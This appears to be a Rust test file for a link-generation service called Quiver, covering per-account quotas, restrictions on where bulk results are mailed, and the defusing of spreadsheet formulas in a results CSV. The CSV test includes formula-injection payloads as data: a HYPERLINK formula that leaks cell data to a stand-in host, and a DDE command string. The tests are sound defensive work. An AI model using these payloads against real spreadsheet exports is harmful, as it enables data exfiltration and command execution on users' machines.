//! What one account may make Quiver do (issue 14): per-account quotas, where bulk results
//! are mailed, and formulas in the result CSV.

use std::time::{Duration, Instant};

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::support::*;

async fn bulk(app: &TestApp, token: &str, links: Vec<Value>) -> Reply {
    app.post_json(
        "/bulk_generate_attribution_links",
        token,
        json!({ "links": links }),
    )
    .await
}

fn links(n: usize) -> Vec<Value> {
    (0..n)
        .map(|i| json!({"asin": "B0D45KS7QM", "link_name": format!("q-{i}"), "marketplace": "amazon.com"}))
        .collect()
}

fn assert_quota(r: &Reply, words: &str) {
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{:?}", r.body);
    assert_eq!(r.code(), "quota_exceeded");
    let detail = r.body["detail"].as_str().unwrap();
    assert!(detail.contains(words), "{detail}");
}

#[tokio::test]
async fn open_bulk_jobs_and_waiting_items_are_limited_per_account() {
    let app = TestApp::with_args(&[
        "--quota-bulk-jobs",
        "2",
        "--quota-bulk-items",
        "5",
        "--bulk-retry-base-ms",
        "60000",
    ])
    .await;
    let t = app.token(CREATOR).await;
    // Amazon is down, so submitted items stay waiting.
    app.outage(true);
    let mut first = links(3);
    first.push(json!({"asin": "nope"})); // an error row: needs no link, counts for nothing
    assert_eq!(bulk(&app, &t, first).await.status, StatusCode::ACCEPTED);
    let r = bulk(&app, &t, links(3)).await;
    assert_quota(&r, "at most 5 bulk items may wait");
    assert_eq!(r.header("retry-after"), None);
    assert_eq!(bulk(&app, &t, links(2)).await.status, StatusCode::ACCEPTED);
    let r = bulk(&app, &t, links(1)).await;
    assert_quota(&r, "already has 2 bulk jobs queued or running");
    let account = app.account_id(CREATOR).await;
    assert_eq!(
        app.running
            .state
            .db
            .count_bulk_jobs(&account)
            .await
            .unwrap(),
        2,
        "refused jobs store nothing"
    );
    // Another account has its own quota.
    let other = app.token(CREATOR2).await;
    assert_eq!(
        bulk(&app, &other, links(5)).await.status,
        StatusCode::ACCEPTED
    );
}

#[tokio::test]
async fn links_per_day_count_single_and_bulk_links() {
    let app = TestApp::with_args(&["--quota-links-per-day", "4"]).await;
    let t = app.token(CREATOR).await;
    for _ in 0..3 {
        let r = app.create_link(&t, "B0D45KS7QM", "amazon.com").await;
        assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    }
    let r = bulk(&app, &t, links(2)).await;
    assert_quota(&r, "at most 4 links per 24 hours");
    let retry: u64 = r.header("retry-after").unwrap().parse().unwrap();
    assert!((86_000..=86_400).contains(&retry), "{retry}");
    let r = bulk(&app, &t, links(1)).await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{:?}", r.body);
    let job = r.body["job_id"].as_str().unwrap().to_owned();
    wait_done(&app, &t, &job).await;
    assert_eq!(app.link_count(CREATOR).await, 4);
    let r = app.create_link(&t, "B0D45KS7QM", "amazon.com").await;
    assert_quota(&r, "at most 4 links per 24 hours");
    assert!(r.header("retry-after").is_some());
    assert_eq!(app.link_count(CREATOR).await, 4, "nothing stored");
    let other = app.token(CREATOR2).await;
    let r = app.create_link(&other, "B0D45KS7QM", "amazon.com").await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
}

async fn wait_done(app: &TestApp, token: &str, job: &str) {
    let started = Instant::now();
    while app.get(&format!("/bulk_jobs/{job}"), token).await.body["status"] != "done" {
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "job {job} not done"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn parse_csv(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect()
}

#[tokio::test]
async fn results_are_mailed_only_to_the_account_itself() {
    let app = TestApp::spawn().await;
    let t = app.token(CREATOR).await;
    for other in [
        "team@example.org",
        "creator2@example.com",
        "creator@example.com.evil.example",
    ] {
        let r = app
            .post_json(
                "/bulk_generate_attribution_links",
                &t,
                json!({"links": links(1), "email": other}),
            )
            .await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{other}: {:?}",
            r.body
        );
        assert_eq!(r.body["detail"][0]["loc"], json!(["body", "email"]));
        assert!(
            r.body["detail"][0]["msg"]
                .as_str()
                .unwrap()
                .contains("your account's own address"),
            "{:?}",
            r.body
        );
    }
    let account = app.account_id(CREATOR).await;
    let db = &app.running.state.db;
    assert_eq!(db.count_bulk_jobs(&account).await.unwrap(), 0);
}

#[tokio::test]
async fn formula_cells_in_the_results_csv_are_defused() {
    let app = TestApp::spawn().await;
    let t = app.token(CREATOR).await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "-2+3",
        "@SUM(A1)",
        "+1+1",
        // Trimmed by the server before it is written: defused after the trim.
        " \u{a0}=1+1",
    ];
    let mut items: Vec<Value> = names
        .iter()
        .map(|n| json!({"asin": "B0D45KS7QM", "link_name": n}))
        .collect();
    // An invalid ASIN is written back as submitted.
    items.push(json!({"asin": "=cmd|' /C calc'!A0", "link_name": "bad"}));
    let r = bulk(&app, &t, items).await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{:?}", r.body);
    let job = r.body["job_id"].as_str().unwrap().to_owned();
    wait_done(&app, &t, &job).await;
    let (_, _, text) = app
        .get_text(&format!("/bulk_jobs/{job}/results.csv"), &t)
        .await;
    let rows = parse_csv(&text);
    let expected = [
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "'-2+3",
        "'@SUM(A1)",
        "'+1+1",
        "'=1+1",
    ];
    for (row, want) in rows.iter().zip(expected) {
        assert_eq!(&row[2], want, "{text}");
        assert_eq!(&row[4], "ok");
    }
    assert_eq!(&rows[5][0], "'=cmd|' /C calc'!A0", "{text}");
    assert_eq!(&rows[5][4], "error");
    for want in expected {
        let quoted = format!("\"{}\"", want.replace('"', "\"\""));
        assert!(text.contains(&quoted), "{want} is quoted: {text}");
    }
    // A tab or a carriage return cannot get that far: names are refused with them.
    let r = app
        .post_json(
            "/bulk_generate_attribution_links",
            &t,
            json!({"links": [{"asin": "B0D45KS7QM", "link_name": "\t=1+1"}]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        r.body["detail"][0]["loc"],
        json!(["body", "links", 0, "link_name"])
    );
}

/// The daily quota reads an account's window from hourly counters plus the links of its
/// first, partial hour (migration 0026): over links spread every 7 minutes across 26
/// hours, inserted behind the API's back (the counter triggers still run), the load it
/// reads equals a plain count of the last 24 hours, and the oldest link is the window's.
#[tokio::test]
async fn the_daily_window_is_counted_exactly_across_hours() {
    let app = TestApp::spawn().await;
    let t = app.token(CREATOR).await;
    let r = app.create_link(&t, "B0D45KS7QM", "amazon.com").await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let source = r.body["id"].as_str().unwrap().to_owned();
    let account = app.account_id(CREATOR).await;
    let now = quiver::store::now_ms();
    const COPY: &str = "INSERT INTO links (id, account_id, asin, marketplace, brand_id, link_name, url, \
         ad_group_id, campaign_id, product_name, active, paused_at, created_at) \
         SELECT $1, account_id, asin, marketplace, brand_id, link_name, url, $2, campaign_id, \
         product_name, active, NULL, $3 FROM links WHERE id = $4";
    for step in 1..=(26 * 60 / 7) {
        let at = now - step * 7 * 60_000 - 1_234;
        let ts = uuid::Timestamp::from_unix(
            uuid::NoContext,
            (at / 1000) as u64,
            ((at % 1000) * 1_000_000) as u32,
        );
        let id = uuid::Uuid::new_v7(ts).to_string();
        let ad_group = format!("window-{step}");
        match &app.running.state.db {
            quiver::store::Db::Sqlite { write, .. } => sqlx::query(COPY)
                .bind(&id)
                .bind(&ad_group)
                .bind(at)
                .bind(&source)
                .execute(write)
                .await
                .map(|_| ()),
            quiver::store::Db::Postgres(pool, _) => sqlx::query(COPY)
                .bind(&id)
                .bind(&ad_group)
                .bind(at)
                .bind(&source)
                .execute(pool)
                .await
                .map(|_| ()),
        }
        .unwrap();
    }
    const BRUTE: &str =
        "SELECT COUNT(*), MIN(created_at) FROM links WHERE account_id = $1 AND created_at > $2";
    let db = &app.running.state.db;
    // Windows starting on, just after and well inside an hour, and now.
    for since in [
        now - 86_400_000,
        now - 86_400_000 + 3_599_000,
        now - 3_600_000 * 5 - 1,
        now,
    ] {
        let (count, oldest): (i64, Option<i64>) = match db {
            quiver::store::Db::Sqlite { read, .. } => {
                sqlx::query_as(BRUTE)
                    .bind(&account)
                    .bind(since)
                    .fetch_one(read)
                    .await
            }
            quiver::store::Db::Postgres(pool, _) => {
                sqlx::query_as(BRUTE)
                    .bind(&account)
                    .bind(since)
                    .fetch_one(pool)
                    .await
            }
        }
        .unwrap();
        let load = db.account_load(&account, since).await.unwrap();
        assert_eq!(load.recent_links, count, "window from {since} (now {now})");
        assert_eq!(load.oldest_recent_link, oldest, "window from {since}");
    }
}
